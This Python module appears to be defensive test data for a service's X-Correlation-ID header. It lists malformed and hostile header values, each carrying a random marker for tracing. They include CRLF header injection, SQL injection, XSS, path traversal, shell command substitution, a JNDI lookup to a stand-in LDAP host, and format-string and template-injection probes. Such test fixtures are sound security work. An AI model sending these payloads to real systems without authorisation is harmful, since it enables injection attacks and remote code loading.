"""Values of X-Correlation-ID that are none: what clients send by mistake, and what attackers send."""

from __future__ import annotations

import secrets
from dataclasses import dataclass
from uuid import NAMESPACE_OID, uuid5

MARK = b"~MARK~"
"""Stands for 7 letters, new in each run: a value that is told anywhere is found by them."""

MARK_LENGTH = 7
LETTERS = "ghijklmnopqrstuvwxyz"
"""None is a hex digit, so that no trace ID, no span ID and no UUID has a mark by chance."""

UUID = b"~UUID~"
"""Stands for the UUID that belongs to the mark."""


def new_mark() -> str:
    return "".join(secrets.choice(LETTERS) for _ in range(MARK_LENGTH))


def uuid_of(mark: str) -> str:
    """A UUID as new as the mark, for notations that call for one."""
    return str(uuid5(NAMESPACE_OID, mark))


def told_by(mark: str) -> tuple[str, str]:
    """What a value with that mark is found by; the end of a UUID is the same with and without hyphens."""
    return mark, uuid_of(mark)[-12:]


@dataclass(frozen=True)
class Case:
    """A name, and the values: one header line each, byte for byte."""

    name: str
    values: tuple[bytes, ...]

    def lines(self, mark: str, header: str = "X-Correlation-ID") -> bytes:
        """The header lines to send."""
        lines = (b"%s: %s\r\n" % (header.encode(), value) for value in self.values)
        return b"".join(lines).replace(MARK, mark.encode()).replace(UUID, uuid_of(mark).encode())


def _cases(**values: bytes | tuple[bytes, ...]) -> list[Case]:
    return [
        Case(name.replace("_", " ").strip(), value if isinstance(value, tuple) else (value,))
        for name, value in values.items()
    ]


def _long(length: int) -> bytes:
    return MARK + b"a" * (length - MARK_LENGTH)


KINDS: dict[str, list[Case]] = {
    "too short or too long": _cases(
        empty=b"",
        one_character=b"x",
        _7_characters=MARK,
        _129_characters=_long(129),
        _256_characters=_long(256),
        _257_characters=_long(257),
        _4_kB=_long(4_000),
        _1_MB=_long(1_000_000),
    ),
    "blanks": _cases(
        only_blanks=b"    ",
        only_a_tab=b"\t",
        a_blank_inside=MARK + b" " + MARK,
        a_tab_inside=MARK + b"\t" + MARK,
        a_no_break_space=MARK + "\N{NO-BREAK SPACE}".encode() + MARK,
    ),
    "control characters": _cases(
        CRLF_and_a_folded_line=MARK + b"\r\n Set-Cookie: " + MARK,
        bare_LF_and_a_header=MARK + b"\nX-Injected: " + MARK,
        bare_CR_and_a_header=MARK + b"\rX-Injected: " + MARK,
        NUL=MARK + b"\0" + MARK,
        escape=MARK + b"\x1b[2J" + MARK,
        backspace=MARK + b"\b\b\b" + MARK,
        delete=MARK + b"\x7f" + MARK,
    ),
    "not ASCII": _cases(
        umlauts=MARK + "äöü".encode(),
        Latin_1=MARK + "äöü".encode("latin-1"),
        broken_UTF_8=MARK + b"\xc3\x28\xff",
        Arabic_digits=MARK + "\N{ARABIC-INDIC DIGIT ONE}".encode() * 8,
        full_width_letters=MARK + "\N{FULLWIDTH LATIN CAPITAL LETTER A}".encode() * 4,
        zero_width_joiner=MARK + "\N{ZERO WIDTH JOINER}".encode() + MARK,
        right_to_left=MARK + "\N{RIGHT-TO-LEFT OVERRIDE}".encode() + MARK,
        emoji=MARK + "🙂🙂".encode(),
    ),
    "several values": _cases(
        comma=MARK + b"a," + MARK + b"b",
        comma_and_a_blank=MARK + b"a, " + MARK + b"b",
        semicolon=MARK + b"a;" + MARK + b"b",
        two_headers=(MARK + b"aaaaaa", MARK + b"bbbbbb"),
        well_formed_and_empty=(MARK + b"aaaaaa", b""),
        well_formed_and_malformed=(MARK + b"aaaaaa", b"<" + MARK + b">"),
    ),
    "other notations": _cases(
        urn=b"urn:uuid:" + UUID,
        braces=b"{" + UUID + b"}",
        quotes=b'"' + MARK + b'f-9d1e-4b6c-8a5f"',
        pair=b"id=" + MARK + b"aaaa",
        Base64=MARK + b"+a/aaaa==",
        colon=b"order:" + MARK,
        address=MARK + b"@shop.example",
        hash=b"order#" + MARK,
    ),
    "code": _cases(
        JSON=b'{"level":"CRITICAL","id":"' + MARK + b'"}',
        SQL=MARK + b"'; DROP TABLE orders;--",
        HTML=b"<script>alert('" + MARK + b"')</script>",
        path=b"../../etc/" + MARK,
        percent_encoded_CRLF=MARK + b"%0d%0aX-Injected:%20yes",
        shell=b"$(touch /tmp/" + MARK + b")",
        JNDI=b"${jndi:ldap://" + MARK + b".example/a}",
        format=MARK + b"%s%n{0.__class__}",
        template=b"{{7*7}}" + MARK,
        backslashes=MARK + b"\\r\\n\\u0000",
    ),
}
"""By kind; every kind is a row of the table."""
